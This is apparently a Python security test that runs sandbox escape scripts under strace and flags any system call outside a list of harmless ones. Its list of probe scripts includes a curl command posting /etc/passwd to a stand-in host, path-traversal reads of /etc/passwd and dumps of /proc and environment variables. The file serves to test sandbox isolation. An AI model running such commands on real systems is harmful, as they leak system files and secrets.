"""What the kernel sees while scripts run: `python -m tests.security.strace` (`make strace`).

A child process prepares sandboxes and imports everything, writes a mark, runs attacks (besides a
guest, a request to a function of the host, git and a mounted folder), and writes another mark, all
under `strace -f`. Between the marks each system call must be one of `HARMLESS`, or one on a
descriptor below a mounted folder. `--isolation process` looks at the workers: besides these calls
they use their connection only. What is something else is printed, with its count.
"""

from __future__ import annotations

import argparse
import encodings
import importlib
import importlib.util
import os
import pkgutil
import re
import shutil
import subprocess
import sys
import tempfile
from collections import Counter
from pathlib import Path

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

ROOT = Path(__file__).parents[2]
BEGIN, END = "the scripts begin", "the scripts end"

HARMLESS = {
    "memory": "mmap munmap mremap mprotect madvise brk membarrier",
    "clocks and waiting": (
        "clock_gettime clock_getres gettimeofday getrusage time clock_nanosleep nanosleep futex poll ppoll "
        "select pselect6 epoll_wait epoll_pwait restart_syscall sched_yield"
    ),
    "threads of this process (a guest computes in one)": (
        "clone clone3 set_robust_list rseq sigaltstack rt_sigprocmask rt_sigaction rt_sigreturn "
        "sched_getaffinity gettid getpid exit exit_group"
    ),
    "random numbers": "getrandom",
}
"""What may be called, and why. `clone` and `clone3` count only with CLONE_THREAD."""

KNOWN_FILES = {
    "/proc/self/statm": "the memory of this process, while a statement of SQLite runs",
    "/dev/urandom": "random numbers of SQLite, once in a process",
    "/proc/sys/vm/overcommit_memory": "glibc asks, once, how it may give memory back",
}
"""What may be opened to be read: names that are constants of the code, never of a script."""

_NAMES = frozenset(" ".join(HARMLESS.values()).split())
_OF_CONNECTION = frozenset(("sendto", "recvfrom", "write", "writev", "read"))
_LINE = re.compile(r"(\d+) +(?:\d+\.\d+ )?(.*)")
_CALL = re.compile(r"(\w+)\((.*?)\)? += (-?\d+|\?)|(\w+)\((.*)")
_ZONE = re.compile(r'AT_FDCWD, "[^"]*/(?:zoneinfo|tzdata)[/"]')

OTHERS = (
    "python3 -c 'import json, os; open(\"p\", \"w\").write(\"x\"); print(os.listdir(\".\"))'",
    "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://api.test/\").read())'",
    "node -e 'require(\"fs\").writeFileSync(\"n\", \"x\"); console.log(process.cwd())'",
    "curl -s http://api.test/x -d @/etc/passwd; curl -s http://192.0.2.1/; nc -z localhost 80",
    "git init -q r; cd r; echo a > a; git add a; git commit -qm a; git log; git clone -q . ../c",
    "cd /host; ls -lR; cat a; echo b > b; ln -s b l; cat l ../etc/passwd d/../../x; rm b l; find .",
    "TZ=Europe/Berlin date; date -u; uname -a; nproc; df; free; ps; env; ulimit -a; cat /proc/*/*",
)  # fmt: skip


# the child


def run_scripts(isolation: str, every: int, seconds: float) -> None:
    """Run the attacks between two marks, of which `strace` writes down the second ones."""
    from agentsandbox import HostFileSystem, Limits, NetworkPolicy, Sandbox
    from tests.security.attack_scripts import ATTACKS, make_file

    _import_all()
    folder = tempfile.mkdtemp(prefix="mounted-")
    Path(folder, "a").write_text("a\n")
    Path(folder, "d").mkdir()
    mounts = {} if isolation == "process" else {"/host": HostFileSystem(folder, read_only=False)}
    policy = NetworkPolicy(hosts={"api.test": lambda request: request.path})
    guests = {name: _is_ready(name) for name in ("python", "javascript")}
    options = {"isolation": isolation, "limits": Limits(timeout=seconds)}
    rich = Sandbox(**options, mounts=mounts, network=policy, **guests, env=_ENV)  # type: ignore[arg-type]
    attacks = ATTACKS[::every]
    for script in OTHERS:
        rich.execute(script)
    Sandbox(**options).execute("echo ready")  # type: ignore[arg-type]
    print(f"{len(attacks)} attacks", file=sys.stderr)
    _mark(BEGIN)
    for script in OTHERS:
        rich.execute(script)
    for attack in attacks:  # all sandboxes together hold more than a machine has
        with Sandbox(**options) as sandbox:  # type: ignore[arg-type]
            for name in attack.files:
                sandbox.files.write(name, make_file(name))
            sandbox.execute(attack.script)
    _mark(END)
    shutil.rmtree(folder)
    os._exit(0)


_ENV = {
    "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com",
    "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com",
}  # fmt: skip


def _mark(text: str) -> None:
    os.write(1, text.encode())


def _is_ready(name: str) -> bool:
    if name == "javascript":
        return importlib.util.find_spec("wasmtime") is not None
    from agentsandbox.python import PythonRuntime

    return PythonRuntime().status().ready


def _import_all() -> None:
    """Import what scripts may need: modules are files of the host, too."""
    for room in ("commands", "contract", "files", "kernel", "shell", "runtime", "network", "git",
                 "python", "javascript", "wasm"):  # fmt: skip
        package = importlib.import_module(f"agentsandbox.{room}")
        for found in pkgutil.walk_packages(package.__path__, f"{package.__name__}."):
            try:
                importlib.import_module(found.name)
            except ImportError:
                continue
    codecs = [f"encodings.{found.name}" for found in pkgutil.iter_modules(encodings.__path__)]
    for name in (*_LIBRARIES, *codecs):
        try:
            importlib.import_module(name)
        except ImportError:
            continue


_LIBRARIES = (
    "binascii", "bz2", "contextvars", "decimal", "hashlib", "json", "lzma", "sqlite3", "zlib",
    "zoneinfo", "tzdata", "greenlet", "regex", "yaml", "zstandard", "h11", "unicodedata",
    "stringprep", "logging", "traceback", "importlib.resources", "zipfile", "packaging.tags",
)  # fmt: skip


# the observer


def observe(isolation: str, every: int, seconds: float) -> tuple[Counter[str], int]:
    """Run the child under strace; return the calls that are not harmless, and how many lines."""
    with tempfile.TemporaryDirectory() as folder:
        trace = Path(os.environ.get("STRACE_KEEP") or f"{folder}/trace")
        ignored = ",".join(sorted(_NAMES - {"clone", "clone3"}))
        words = [
            "strace", "-f", "-o", str(trace), "-s", "200", "-e", f"trace=!{ignored}",
            "-e", "signal=none", sys.executable, "-m", "tests.security.strace", "--child",
            "--isolation", isolation, "--every", str(every), "--seconds", str(seconds),
        ]  # fmt: skip
        done = subprocess.run(
            words, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, check=False,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )  # fmt: skip
        if done.returncode:
            raise RuntimeError(done.stderr.decode(errors="replace")[-2000:])
        return judged(trace.read_text(errors="replace").splitlines(), isolation)


def calls(lines: list[str]) -> Iterator[tuple[str, str, str, str]]:
    """Yield (process, call, arguments, result), each when it has ended."""
    begun: dict[str, str] = {}
    for line in lines:
        found = _LINE.match(line)
        if found is None:
            continue
        process, text = found[1], found[2]
        if text.endswith("<unfinished ...>"):
            begun[process] = text.removesuffix("<unfinished ...>")
            continue
        if text.startswith("<... "):
            text = begun.pop(process, "") + text.partition(" resumed>")[2]
        call = _CALL.match(text)
        if call is not None:
            yield process, call[1] or call[4], (call[2] or call[5] or "").rstrip(), call[3] or "?"


def judged(lines: list[str], isolation: str) -> tuple[Counter[str], int]:
    """Return the calls between the marks that are not harmless."""
    bad: Counter[str] = Counter()
    seen = 0
    host = ""
    open_below: set[str] = set()
    known: set[str] = set()
    roots: set[str] = set()
    connections: dict[str, set[str]] = {}
    confined: set[str] = set()
    is_between = False
    for process, name, arguments, result in calls(lines):
        host = host or process
        if name == "prctl" and "PR_SET_SECCOMP" in arguments and result == "0":
            confined.add(process)
            continue
        if name in ("clone", "clone3") and process in confined and "CLONE_THREAD" in arguments:
            confined.add(result)
        if name == "write" and f'"{BEGIN}"' in arguments:
            is_between = True
            open_below = set(roots)
        elif name == "write" and f'"{END}"' in arguments:
            return bad, seen
        elif not is_between:
            if name in ("open", "openat") and "mounted-" in arguments and "O_PATH" in arguments:
                roots.add(result)
        elif isolation == "thread" or process in confined:
            seen += 1
            if _is_of_known_file(name, arguments, result, known):
                continue
            if not _is_harmless(name, arguments, result, process, connections, open_below):
                bad[f"{name}({arguments[:90]}) = {result}"] += 1
    raise RuntimeError("the marks are missing")


def _is_harmless(
    name: str,
    arguments: str,
    result: str,
    process: str,
    connections: dict[str, set[str]],
    open_below: set[str],
) -> bool:
    first, _, rest = arguments.partition(", ")
    if name == "symlinkat":  # its text is not followed
        first, _, rest = rest.partition(", ")
    if name in ("clone", "clone3"):
        return "CLONE_THREAD" in arguments
    if name in _OF_CONNECTION and first.isdigit():
        if name in ("sendto", "recvfrom"):
            connections.setdefault(process, set()).add(first)
            return True
        if first in connections.get(process, ()) or _is_counter(name, rest):
            return True
    if first in open_below:  # a descriptor of a mounted folder, or below
        path = re.match(r'"([^"]*)"', rest)
        if path is not None and (path[1].startswith("/") or ".." in path[1].split("/")):
            return False
        if name in ("openat", "fcntl", "dup") and result.isdigit():
            open_below.add(result)
        if name == "close":
            open_below.discard(first)
        return True
    if name == "ioctl" and arguments.startswith("2, TCGETS"):
        return True  # wasmtime asks once whether a trap's text may have colours
    return bool(_ZONE.match(arguments)) or name in _NAMES


def _is_of_known_file(name: str, arguments: str, result: str, known: set[str]) -> bool:
    """Whether a call opens a known file or a time zone to read it, or is one on its descriptor."""
    if name == "openat":
        opened = re.match(r'AT_FDCWD, "([^"]*)", O_RDONLY', arguments)
        if opened is None or not (opened[1] in KNOWN_FILES or _ZONE.match(arguments)):
            return False
        known.add(result)
        return True
    first = arguments.partition(",")[0]
    if first not in known or name not in ("read", "newfstatat", "fstat", "lseek", "ioctl", "close"):
        return False
    if name == "close":
        known.discard(first)
    return True


def _is_counter(name: str, rest: str) -> bool:
    """Whether a call is one on an eventfd: eight bytes that wake a thread of this process."""
    return name in ("read", "write") and rest.endswith(", 8")


def main() -> int:
    """Print what is not harmless."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--isolation", default="thread", choices=["thread", "process"])
    parser.add_argument("--every", type=int, default=1, help="run one of so many attacks")
    parser.add_argument("--seconds", type=float, default=0.5, help="timeout of each attack")
    parser.add_argument("--child", action="store_true", help=argparse.SUPPRESS)
    options = parser.parse_args()
    if options.child:
        run_scripts(options.isolation, options.every, options.seconds)
    if shutil.which("strace") is None:
        print("skipped: there is no strace")
        return 0
    bad, seen = observe(options.isolation, options.every, options.seconds)
    for call, count in bad.most_common(60):
        print(f"{count:6} {call}")
    print(f"{sum(bad.values())} calls of {seen} that were written down are not harmless")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
